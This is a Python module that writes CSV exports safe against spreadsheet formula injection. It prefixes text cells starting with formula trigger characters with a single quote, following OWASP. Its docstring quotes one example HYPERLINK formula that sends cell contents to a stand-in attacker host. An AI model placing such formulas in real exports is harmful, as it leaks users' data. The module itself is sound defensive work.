"""CSV files a person opens in a spreadsheet, with no live formula in them.

Every CSV GeoCRM writes for people (audiences, routes, cube cells, geocoded files, rejects)
goes through :func:`writer`, :class:`DictWriter` or :func:`write_frame`. A text cell
starting with ``= + - @``, a tab or a carriage return would be run by Excel, LibreOffice or
Google Sheets as a formula (``=HYPERLINK("http://evil.example/?d="&A1,"x")``); OWASP's rule
is to prefix such a cell with a single quote, which the spreadsheet shows as text. Numbers
stay numbers: a value that reads as one (``-12.5``) is left alone, as are non-text values.

Rows end in CRLF (RFC 4180), so that a field holding a carriage return is quoted too.
"""

from __future__ import annotations

import csv
import math
from collections.abc import Iterable, Mapping
from typing import Any

import pandas as pd
from pandas.api.types import is_bool_dtype, is_numeric_dtype

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: The end of a row: the csv module quotes a field holding any of its characters.
LINE_END = "\r\n"


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _is_number(value):
        return "'" + value
    return value


class _Writer:
    """``csv.writer`` whose every cell goes through :func:`neutralise`."""

    def __init__(self, out: Any, **options: Any):
        self._writer = csv.writer(out, lineterminator=LINE_END, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **options: Any) -> _Writer:
    """A ``csv.writer`` on ``out`` (same options but the line end) that neutralises
    formula cells."""
    return _Writer(out, **options)


class DictWriter(csv.DictWriter):
    """A ``csv.DictWriter`` that neutralises formula cells."""

    def __init__(self, out: Any, fieldnames: Any, **options: Any):
        super().__init__(out, fieldnames, lineterminator=LINE_END, **options)

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def write_frame(frame: pd.DataFrame, out: Any, **options: Any) -> None:
    """``frame.to_csv(out, index=False, **options)`` with its text cells neutralised."""
    safe = frame.copy()
    for column in safe.columns:
        if not (is_numeric_dtype(safe[column]) or is_bool_dtype(safe[column])):
            safe[column] = safe[column].map(neutralise)
    safe.to_csv(out, index=False, lineterminator=LINE_END, **options)
